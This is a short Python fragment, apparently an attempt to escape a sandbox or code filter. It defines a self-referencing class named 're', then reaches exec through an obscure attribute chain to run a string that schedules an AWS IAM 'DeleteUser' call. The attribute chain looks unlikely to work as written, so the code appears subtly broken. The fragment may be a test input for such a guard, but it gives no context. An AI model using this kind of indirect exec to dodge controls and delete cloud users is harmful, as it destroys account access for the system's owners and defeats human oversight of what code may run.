class re:
    x = re
re.x.enum.bltns.exec("t = asyncio.ensure_future(call_boto3(service_name='iam', operation_name='DeleteUser'))")
await asyncio.sleep(0.01)
